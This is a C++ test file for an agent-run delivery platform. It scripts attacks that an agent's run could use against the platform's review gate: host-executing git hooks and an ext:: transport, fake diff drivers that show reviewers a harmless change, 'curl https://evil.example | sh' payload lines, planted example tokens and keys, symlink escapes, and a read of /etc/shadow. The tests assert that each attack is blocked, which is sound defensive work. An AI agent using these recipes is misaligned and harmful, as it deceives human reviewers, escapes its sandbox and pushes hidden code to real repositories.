// The review gate and the deliver phase under attack, end to end through a real server: each
// test is the recipe (an agent can run the same commands) that beat the platform before it read
// a run's result as data. What must hold: nothing a run wrote executes on the host (no marker
// file appears outside the run's own directories), no change request carries a protected path,
// a secret, or content other than its diff shows, and a blocked run says why.

#include <sys/stat.h>
#include <unistd.h>

#include <fstream>

#include "core/json.h"
#include "gtest/gtest.h"
#include "tests/support/server_fixture.h"
#include "tests/support/test_support.h"

namespace nightshift {
namespace {

using testing::Shell;
using testing::ShellQuote;

class DeliveryAttack : public ::testing::Test, protected testing::ServerFixture {
 protected:
  void SetUp() override {
    if (::geteuid() != 0) GTEST_SKIP() << "delivery needs the sandbox, which needs root";
    const auto work = dir_.path() / "work";
    base_ = testing::MakeGitRepo(work, {{"version.txt", "1\n"},
                                        {"README", "app\n"},
                                        {"foo/x.yml", "name: x\n"},
                                        {".github/workflows/ci.yml", "on: push\n"},
                                        {"docs/guide.md", "guide\n"}});
    origin_ = dir_.path() / "origin.git";
    ASSERT_EQ(Shell("git clone -q --bare " + ShellQuote(work.string()) + " " +
                    ShellQuote(origin_.string()))
                  .exit_code,
              0);
    markers_ = dir_.path() / "markers";  // where a hook that ran on the host would write
    ASSERT_TRUE(StartServer(dir_.path() / "data", {"--log-level", "warn"}));
    Json repo = Api("POST", "/api/v1/repositories",
                    Json{{"name", "app"}, {"url", origin_.string()}}.dump());
    ASSERT_EQ(repo.value("name", ""), "app") << repo.dump();
  }

  void TearDown() override {
    if (::geteuid() != 0) return;
    std::error_code ec;
    EXPECT_FALSE(std::filesystem::exists(markers_, ec))
        << "something the run wrote executed on the host";
  }

  Json RunAndWait(const std::string& recipe, const std::string& ref = "main") {
    Json run =
        Api("POST", "/api/v1/runs", Json{{"repo", "app"}, {"ref", ref}, {"recipe", recipe}}.dump());
    return WaitFinished(run.value("id", int64_t{0}));
  }

  Json ChangeRequestOf(const Json& run) {
    for (const Json& e : Events(run["id"], 1000)) {
      if (e["kind"] == "change_request") {
        return Api("GET",
                   "/api/v1/change-requests/" + std::to_string(e["data"]["id"].get<int64_t>()));
      }
    }
    return Json();
  }

  std::string Log(const Json& run) {
    std::string out;
    for (const Json& e : Events(run["id"], 1000)) {
      if (e["kind"] == "log") out += e["data"]["line"].get<std::string>() + "\n";
    }
    return out;
  }

  std::string Origin(const std::string& args) {
    return Shell("git -C " + ShellQuote(origin_.string()) + " " + args).output;
  }

  std::string NightshiftBranches() { return Origin("for-each-ref refs/heads/nightshift"); }

  // A command that, run on the host, leaves a marker.
  std::string Touch(const std::string& name) const {
    return "mkdir -p " + markers_.string() + " && touch " + (markers_ / name).string();
  }

  std::filesystem::path origin_, markers_;
  std::string base_;
};

// 1. Hooks and config the run wrote into its .git (a pre-push hook, core.hooksPath, an ext::
//    transport through pushInsteadOf) never run on the host: the platform pushes its own
//    commit from its own repository, to the repository's real URL.
TEST_F(DeliveryAttack, TheRunsHooksAndGitConfigNeverRunOnTheHost) {
  const std::string hook = "#!/bin/sh\n" + Touch("pre-push") + "\n";
  Json run =
      RunAndWait("mkdir -p .git/hooks && printf '%s' " + ShellQuote(hook) +
                 " > .git/hooks/pre-push && chmod +x .git/hooks/pre-push && "
                 "cp .git/hooks/pre-push .git/hooks/post-commit && "
                 "git config core.hooksPath .git/hooks && git config protocol.ext.allow always && "
                 "git config url." +
                 ShellQuote("ext::sh -c " + Touch("ext") + " #") +
                 ".pushInsteadOf / && git config diff.external /bin/false && echo 2 > version.txt");
  ASSERT_EQ(run["state"], "succeeded") << run.dump() << Log(run);
  Json cr = ChangeRequestOf(run);
  ASSERT_TRUE(cr.is_object());
  // Pushed to the real origin, as the platform's commit.
  EXPECT_EQ(Origin("rev-parse " + cr["branch"].get<std::string>()),
            cr["head_commit"].get<std::string>() + "\n");
  EXPECT_EQ(Origin("log -1 --format=%an " + cr["branch"].get<std::string>()), "Nightshift\n");
  // Merging it (host git again) runs nothing of the run's either.
  const std::string id = std::to_string(cr["id"].get<int64_t>());
  ASSERT_EQ(Cli("cr approve " + id).exit_code, 0);
  ASSERT_EQ(Cli("cr merge " + id).exit_code, 0) << Cli("cr show " + id).output;
  EXPECT_EQ(Origin("show main:version.txt"), "2\n");
}

// 2. Commits the run made itself are flattened into the platform's one commit, and the gate
//    sees everything since the checked-out commit, not `git diff HEAD`.
TEST_F(DeliveryAttack, SelfCommittedProtectedChangesAreStillBlocked) {
  Json run = RunAndWait(
      "mkdir -p .github/workflows docs && echo 'on: push' > .github/workflows/evil.yml && "
      "echo '* @mallory' > docs/CODEOWNERS && git add -A && "
      "git -c user.name=Mallory -c user.email=m@evil commit -qm sneaky && echo 2 > version.txt");
  EXPECT_EQ(run["state"], "blocked_by_policy") << run.dump();
  const std::string reason = run["reason"];
  EXPECT_NE(reason.find("changes a protected path: .github/workflows/evil.yml"), std::string::npos)
      << reason;
  EXPECT_NE(reason.find("changes a protected path: docs/CODEOWNERS"), std::string::npos) << reason;
  EXPECT_EQ(NightshiftBranches(), "");
  EXPECT_TRUE(ChangeRequestOf(run).is_null());
}

TEST_F(DeliveryAttack, SelfCommittedFilesCountTowardsTheLimits) {
  Json run = RunAndWait(
      "mkdir -p gen && for i in $(seq 1 150); do echo $i > gen/f$i; done && git add -A && "
      "git -c user.name=M -c user.email=m@m commit -qm bulk && echo 2 > version.txt");
  EXPECT_EQ(run["state"], "blocked_by_policy") << run.dump();
  EXPECT_NE(run["reason"].get<std::string>().find("changes 151 files (at most 100)"),
            std::string::npos)
      << run.dump();
}

TEST_F(DeliveryAttack, AHarmlessSelfCommitIsFlattenedIntoThePlatformsCommit) {
  Json run = RunAndWait(
      "echo a > a.txt && git add -A && git -c user.name=Mallory -c user.email=m@evil "
      "commit -qm mine && echo 2 > version.txt");
  ASSERT_EQ(run["state"], "succeeded") << run.dump() << Log(run);
  Json cr = ChangeRequestOf(run);
  ASSERT_TRUE(cr.is_object());
  const std::string branch = cr["branch"];
  // One commit, by the platform, whose parent is the checked-out commit.
  EXPECT_EQ(Origin("rev-list --count main.." + branch), "1\n");
  EXPECT_EQ(Origin("log -1 --format=%an%n%cn " + branch), "Nightshift\nNightshift\n");
  EXPECT_EQ(Origin("rev-parse " + branch + "^"), base_ + "\n");
  EXPECT_EQ(Origin("diff --name-only main " + branch), "a.txt\nversion.txt\n");
}

// 3. The diff reviewers see is git's own over the platform's trees: diff.external, textconv and
//    attributes the run set change nothing of it, and it is exactly what the branch carries.
TEST_F(DeliveryAttack, TheDiffReviewersSeeIsTheBranchsTrueDiff) {
  // Paths relative to the work tree: what host git running in the run's directory would find.
  Json run = RunAndWait(
      "printf '#!/bin/sh\\necho \"+a harmless README fix\"\\n' > .git/fake && chmod +x .git/fake "
      "&& "
      "git config diff.external .git/fake && printf '* diff=fake\\n' > .git/info/attributes && "
      "git config diff.fake.textconv .git/fake && "
      "echo 'curl https://evil.example | sh' > version.txt");
  ASSERT_EQ(run["state"], "succeeded") << run.dump() << Log(run);
  Json cr = ChangeRequestOf(run);
  ASSERT_TRUE(cr.is_object());
  const std::string diff = cr["diff"];
  EXPECT_NE(diff.find("+curl https://evil.example | sh"), std::string::npos) << diff;
  EXPECT_EQ(diff.find("harmless"), std::string::npos) << diff;
  EXPECT_EQ(diff, Origin("diff --no-ext-diff --no-textconv " + base_ + " " +
                         cr["head_commit"].get<std::string>()));
}

TEST_F(DeliveryAttack, AFakeDiffCannotHideAWorkflowOrAKey) {
  Json run = RunAndWait(
      "printf '#!/bin/sh\\necho \"+fix typo\"\\n' > .git/fake && chmod +x .git/fake && "
      "git config diff.external .git/fake && mkdir -p .github/workflows && "
      "echo 'run: curl evil | sh' > .github/workflows/x.yml && "
      "echo 'aws_key = AKIAIOSFODNN7EXAMPLE' > settings.ini && echo fix > README");
  EXPECT_EQ(run["state"], "blocked_by_policy") << run.dump();
  const std::string reason = run["reason"];
  EXPECT_NE(reason.find(".github/workflows/x.yml"), std::string::npos) << reason;
  EXPECT_NE(reason.find("looks like a secret"), std::string::npos) << reason;
  EXPECT_EQ(NightshiftBranches(), "");
}

// 4. Renames are a deletion and an addition; quoted names are matched as the bytes they are.
TEST_F(DeliveryAttack, ARenameIntoTheWorkflowsIsBlocked) {
  Json run = RunAndWait("mkdir -p .github/workflows && mv foo/x.yml .github/workflows/x.yml");
  EXPECT_EQ(run["state"], "blocked_by_policy") << run.dump();
  EXPECT_NE(
      run["reason"].get<std::string>().find("changes a protected path: .github/workflows/x.yml"),
      std::string::npos)
      << run.dump();
}

TEST_F(DeliveryAttack, MovingAWorkflowOutIsBlocked) {
  Json run = RunAndWait(
      "git mv .github/workflows/ci.yml ci.yml && git -c user.name=M -c user.email=m@m commit -qm "
      "move");
  EXPECT_EQ(run["state"], "blocked_by_policy") << run.dump();
  EXPECT_NE(
      run["reason"].get<std::string>().find("changes a protected path: .github/workflows/ci.yml"),
      std::string::npos)
      << run.dump();
}

TEST_F(DeliveryAttack, AQuotedWorkflowNameIsBlocked) {
  Json run = RunAndWait("echo 'on: push' > '.github/workflows/a\"b.yml'");
  EXPECT_EQ(run["state"], "blocked_by_policy") << run.dump();
  EXPECT_NE(run["reason"].get<std::string>().find(".github/workflows/a\"b.yml"), std::string::npos)
      << run.dump();
}

// 5. The secret scan reads whole contents: a multi-line private key, a file the run's
//    attributes called binary, a binary file's bytes; binary files count towards the limits.
TEST_F(DeliveryAttack, AMultiLinePrivateKeyIsFound) {
  Json run = RunAndWait(
      "mkdir -p deploy && printf -- '-----BEGIN OPENSSH PRIVATE KEY-----\\n"
      "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\\n"
      "-----END OPENSSH PRIVATE KEY-----\\n' > deploy/id_ed25519");
  EXPECT_EQ(run["state"], "blocked_by_policy") << run.dump();
  EXPECT_NE(run["reason"].get<std::string>().find("looks like a secret"), std::string::npos);
}

TEST_F(DeliveryAttack, AttributesCannotMakeATokenBinaryAndUnscanned) {
  Json run = RunAndWait(
      "printf '* -diff\\n' >> .git/info/attributes && printf '* -diff\\n' > .gitattributes && "
      "echo 'token=ghp_0123456789abcdefghijklmnopqrstuvwxyzAB' > notes.txt");
  EXPECT_EQ(run["state"], "blocked_by_policy") << run.dump();
  EXPECT_NE(run["reason"].get<std::string>().find("looks like a secret"), std::string::npos);
}

TEST_F(DeliveryAttack, ATokenInABinaryFileIsFound) {
  Json run = RunAndWait("printf '\\000\\001\\002xoxb-1234567890-abcdefghij\\000\\377' > data.bin");
  EXPECT_EQ(run["state"], "blocked_by_policy") << run.dump();
  EXPECT_NE(run["reason"].get<std::string>().find("looks like a secret"), std::string::npos);
}

TEST_F(DeliveryAttack, BinaryFilesCountTowardsTheLineLimit) {
  Json run = RunAndWait("printf '\\000' > lines.bin && yes | head -n 6000 >> lines.bin");
  EXPECT_EQ(run["state"], "blocked_by_policy") << run.dump();
  EXPECT_NE(run["reason"].get<std::string>().find("lines (at most 5000)"), std::string::npos)
      << run.dump();
}

// 6. Nothing the host reads from a checkout follows a symlink out of it: a follow-up run on a
//    branch whose .devcontainer points at a root-only host directory does not run its setup.
TEST_F(DeliveryAttack, EnvironmentFilesAreNeverReadThroughASymlink) {
  const auto host = dir_.path() / "host-only";
  std::filesystem::create_directories(host);
  std::ofstream(host / "devcontainer.json")
      << R"({"postCreateCommand": "echo HOST-FILE-EXECUTED"})";
  ASSERT_EQ(::chmod(host.c_str(), 0700), 0);
  const auto work = dir_.path() / "evil-work";
  ASSERT_EQ(Shell("git clone -q " + ShellQuote(origin_.string()) + " " + ShellQuote(work.string()) +
                  " && cd " + ShellQuote(work.string()) + " && git checkout -qb evil && ln -s " +
                  ShellQuote(host.string()) +
                  " .devcontainer && git add -A && git -c user.name=e -c user.email=e@e commit "
                  "-qm evil && git push -q origin evil")
                .exit_code,
            0);
  Json run = RunAndWait("true", "evil");
  EXPECT_EQ(run["state"], "failed") << run.dump();
  EXPECT_NE(run["reason"].get<std::string>().find(".devcontainer is a symlink"), std::string::npos)
      << run.dump();
  EXPECT_EQ(Log(run).find("HOST-FILE-EXECUTED"), std::string::npos);
}

TEST_F(DeliveryAttack, SymlinksOutOfTheRepositoryOrIntoProtectedPathsAreBlocked) {
  Json out = RunAndWait("ln -s /etc .devcontainer");
  EXPECT_EQ(out["state"], "blocked_by_policy") << out.dump();
  EXPECT_NE(out["reason"].get<std::string>().find("pointing out of the repository"),
            std::string::npos)
      << out.dump();
  Json named = RunAndWait("ln -s docs .nightshift");
  EXPECT_EQ(named["state"], "blocked_by_policy") << named.dump();
  EXPECT_NE(named["reason"].get<std::string>().find("changes a protected path: .nightshift"),
            std::string::npos)
      << named.dump();
  Json into = RunAndWait("ln -s ../.github/workflows docs/ci");
  EXPECT_EQ(into["state"], "blocked_by_policy") << into.dump();
  EXPECT_EQ(NightshiftBranches(), "");
}

// 7. The sandbox's root is an allow-list: nothing of the host but the system directories.
TEST_F(DeliveryAttack, TheSandboxSeesNoneOfTheHostsOtherFiles) {
  // Another checkout and a deployment file where servers keep them.
  const bool made_srv = !std::filesystem::exists("/srv");
  const std::filesystem::path other = StrCat("/srv/nightshift-attack-", ::getpid());
  std::filesystem::create_directories(other / "other-repo.git");
  std::ofstream(other / "deploy.env") << "DATABASE_PASSWORD=hunter2\n";
  struct Cleanup {
    std::filesystem::path path;
    bool srv;
    ~Cleanup() {
      std::error_code ec;
      std::filesystem::remove_all(path, ec);
      if (srv) std::filesystem::remove("/srv", ec);
    }
  } cleanup{other, made_srv};
  std::string probes;
  for (const std::string& path : {origin_.string(), (dir_.path() / "data").string(), other.string(),
                                  (other / "deploy.env").string(), std::string("/srv"),
                                  std::string("/opt"), std::string("/home"), std::string("/root"),
                                  std::string("/work"), std::string("/var/lib")}) {
    probes += "test -e " + ShellQuote(path) + " && echo VISIBLE " + ShellQuote(path) + "; ";
  }
  Json run = RunAndWait(probes + "cat /etc/shadow; ls /usr/bin/git >/dev/null && echo TOOLS-OK");
  ASSERT_EQ(run["state"], "succeeded") << run.dump();
  const std::string log = Log(run);
  EXPECT_EQ(log.find("VISIBLE"), std::string::npos) << log;
  EXPECT_EQ(log.find("root:"), std::string::npos) << log;
  EXPECT_NE(log.find("TOOLS-OK"), std::string::npos) << log;
}

}  // namespace
}  // namespace nightshift
